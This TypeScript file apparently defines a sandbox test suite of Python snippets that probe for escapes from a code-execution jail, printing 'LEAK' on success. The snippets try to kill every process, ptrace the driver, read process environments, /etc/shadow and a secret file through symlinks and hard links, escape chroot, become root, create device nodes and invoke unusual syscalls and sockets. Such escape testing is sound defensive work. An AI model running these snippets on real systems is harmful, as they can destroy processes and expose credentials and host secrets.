import type { Attack, AttackTarget } from "./attack.ts";

const python = JSON.stringify;
const afterGetting = (expression: string): string => `r = ${expression}\nprint("LEAK", r)`;

/** Reaching other processes, the host's files, its network and its kernel. */
export const hostAttacks = ({ secret, folder, port, pid }: AttackTarget): Attack[] => [
  // Other processes.
  {
    name: "killing the parent and everybody",
    core: true,
    code: "import os\nfor pid in (os.getppid(), 0, -1, 1):\n    try: os.kill(pid, 9)\n    except OSError: pass",
  },
  { name: "killing the driver", code: `import os\nos.kill(${pid}, 9)\nprint("LEAK")` },
  {
    name: "ptrace and foreign memory",
    code: `import ctypes\nlibc = ctypes.CDLL(None)\nif libc.ptrace(16, ${pid}, 0, 0) == 0: print("LEAK")`,
  },
  {
    name: "process environments",
    code: "import glob\nfor p in glob.glob('/proc/[0-9]*/environ'): print('LEAK', open(p, 'rb').read(), p)",
  },
  // Host files.
  { name: "reading a host file", core: true, code: `${afterGetting(`open(${python(secret)}).read()`)}` },
  {
    name: "reading through a link",
    code: `import os\nos.symlink(${python(secret)}, "/tmp/link")\n${afterGetting("open('/tmp/link').read()")}`,
  },
  { name: "writing a host file", core: true, code: `open(${python(`${folder}/written`)}, "w").write("x")` },
  {
    name: "writing system paths",
    code: "import sys\nfor p in ('/usr/x', '/etc/x', '/bin/x', '/root/x', '/x'):\n    try: open(p, 'w').close()\n    except OSError: pass",
  },
  {
    name: "new namespaces and mounts",
    code: "import ctypes\nlibc = ctypes.CDLL(None)\nif libc.unshare(0x10000000) == 0 or libc.mount(b'none', b'/tmp', b'tmpfs', 0, 0) == 0: print('LEAK')",
  },
  {
    name: "raising limits",
    code: "import resource\nresource.setrlimit(resource.RLIMIT_AS, (-1, -1))\nx = bytearray(10**10)\nprint('LEAK')",
  },
  {
    name: "inherited descriptors",
    code: "import os\nfor fd in range(4, 256):\n    try:\n        os.write(fd, b'forged\\n')\n        print('LEAK', fd)\n    except OSError: pass",
  },
  // Network.
  {
    name: "loopback network",
    core: true,
    code: `import socket\ns = socket.create_connection(("127.0.0.1", ${port}), 1)\ns.sendall(b"hello")\nprint("LEAK", s.recv(10))`,
  },
  {
    name: "name service",
    code: "import socket\nif socket.gethostbyname('example.com')[:4] not in ('172.', '127.'): print('LEAK')",
  },
  // More of the host.
  {
    name: "the driver's environment",
    core: true,
    code: `import os, ctypes
print(dict(os.environ))
getenv = ctypes.CDLL(None).getenv
getenv.restype = ctypes.c_char_p
print(getenv(b'CIRLAB_TEST_SECRET'))`,
  },
  {
    name: "the process file system",
    code: `import os
for path in ('/proc/1/root', '/proc/self/root/root', '/proc/self/mem', '/proc/self/exe', '/proc/sys/kernel/hostname', '/proc/1/cmdline'):
    try: print('LEAK', os.readlink(path) if path.endswith(('root', 'exe')) else open(path, 'rb').read(9))
    except OSError: pass`,
  },
  {
    name: "links to folders and hard links",
    core: true,
    code: `import os
os.symlink("/", "/tmp/root")
os.symlink("/etc", "/tmp/etc")
for path in ("/tmp/root" + ${python(secret)}, "/tmp/etc/shadow", "/tmp/etc/passwd", "/tmp/../" + ${python(secret)}):
    try: print("LEAK", open(path).read())
    except OSError: pass
for path in (${python(secret)}, "/etc/shadow"):
    try: os.link(path, "/tmp/hard"); print("LEAK hard link")
    except OSError: pass`,
  },
  {
    name: "leaving through chroot",
    code: `import os
folder = os.open("/", os.O_RDONLY)
os.mkdir("/tmp/inner")
os.chroot("/tmp/inner")
os.fchdir(folder)
for _ in range(64): os.chdir("..")
os.chroot(".")
print("LEAK", open(${python(secret)}).read())`,
  },
  {
    name: "becoming root",
    code: `import os
for become in (os.setuid, os.seteuid, os.setgid):
    try: become(0)
    except OSError: pass
for path in ('/etc/shadow', '/root/.profile', '/etc/hostname'):
    try: print('LEAK', open(path).read())
    except OSError: pass`,
  },
  {
    name: "device nodes",
    code: `import os, stat
for kind, device in ((stat.S_IFBLK, os.makedev(8, 0)), (stat.S_IFBLK, os.makedev(253, 0)), (stat.S_IFCHR, os.makedev(1, 1))):
    try:
        os.mknod('/tmp/node', kind | 0o666, device)
        print('LEAK', open('/tmp/node', 'rb').read(16))
    except OSError: pass`,
  },
  {
    name: "terminal and kernel devices",
    code: `import fcntl, os, sys
for path in ('/dev/tty', '/dev/console', '/dev/kmsg', '/dev/mem', '/dev/fuse', '/dev/kvm', '/dev/net/tun'):
    try: fd = os.open(path, os.O_RDWR)
    except OSError: continue
    os.write(fd, b'anybody there?')
    if sys.platform != 'emscripten': print('LEAK', path)
for fd in range(3):
    try: fcntl.ioctl(fd, 0x5412, b'x')
    except OSError: continue
    print('LEAK')`,
  },
  {
    name: "System V shared memory, semaphores and queues",
    core: "jail",
    code: `import ctypes
libc = ctypes.CDLL(None)
for name, arguments in (('shmget', (0x51AB, 4096, 0o1666)), ('semget', (0x51AB, 1, 0o1666)), ('msgget', (0x51AB, 0o1666))):
    if getattr(libc, name)(*arguments) >= 0: print('LEAK', name)`,
  },
  {
    name: "POSIX shared memory and queues",
    code: `import ctypes, os
try:
    from multiprocessing import shared_memory
    shared_memory.SharedMemory('cirlab_left', create=True, size=64)
except (OSError, ImportError): pass
try: open('/dev/shm/left', 'w').write('x')
except OSError: pass
if ctypes.CDLL(None).mq_open(b'/cirlab_left', os.O_CREAT | os.O_RDWR, 0o600, None) >= 0: print('LEAK')`,
  },
  {
    name: "memory of other processes",
    code: `import ctypes
libc = ctypes.CDLL(None)
here = ctypes.create_string_buffer(64)
class Vector(ctypes.Structure): _fields_ = [("base", ctypes.c_void_p), ("size", ctypes.c_size_t)]
vector = Vector(ctypes.addressof(here), 64)
for pid in (1, ${pid}):
    if libc.process_vm_readv(pid, ctypes.byref(vector), 1, ctypes.byref(vector), 1, 0) > 0: print("LEAK", pid)`,
  },
  {
    name: "limits of other processes",
    code: `import resource
for pid in (${pid}, 2):
    try:
        resource.prlimit(pid, resource.RLIMIT_NOFILE, (0, 0))
        print("LEAK")
    except OSError: pass`,
  },
  {
    name: "kernel calls that no snippet needs",
    core: "jail",
    code: `import ctypes, platform
libc = ctypes.CDLL(None)
numbers = dict(memfd_create=319, userfaultfd=323, bpf=321, perf_event_open=298, io_uring_setup=425, keyctl=250, add_key=248, pidfd_open=434, personality=135, open_by_handle_at=304, unshare=272, fsopen=430, quotactl=179, inotify_init=253)
if platform.machine() == 'x86_64':
    for name, number in numbers.items():
        if libc.syscall(number, 0x7FFFFFF, 0, 0, 0, 0, 0) >= 0: print('LEAK', name)`,
  },
  {
    name: "calls of another ABI",
    code: `import ctypes, platform
libc = ctypes.CDLL(None)
if platform.machine() == 'x86_64' and libc.syscall(0x40000000 | 41, 2, 1, 0) >= 0: print('LEAK')`,
  },
  {
    name: "other kinds of sockets",
    core: "jail",
    code: `import socket
kinds = ((socket.AF_INET6, socket.SOCK_STREAM, ("::1", ${port})), (socket.AF_INET, socket.SOCK_DGRAM, ("127.0.0.1", ${port})), (socket.AF_UNIX, socket.SOCK_STREAM, "/run/dbus/system_bus_socket"), (socket.AF_UNIX, socket.SOCK_STREAM, "\\0abstract"), (16, 3, (0, 0)), (17, 3, ("lo", 0)))
for family, kind, address in kinds:
    try:
        with socket.socket(family, kind) as s:
            s.settimeout(0.3)
            s.connect(address)
            s.send(b"hello")
            if family != socket.AF_INET: print("LEAK", family)
    except (OSError, ValueError, TypeError): pass`,
  },
  {
    name: "asking name servers",
    code: `import socket
for server in ('8.8.8.8', '127.0.0.53', '1.1.1.1'):
    try:
        s = socket.socket(socket.AF_INET, socket.SOCK_DGRAM)
        s.settimeout(0.3)
        s.sendto(bytes.fromhex('abcd01000001000000000000076578616d706c6503636f6d0000010001'), (server, 53))
        print('LEAK', s.recv(100))
    except (OSError, ValueError): pass`,
  },
];
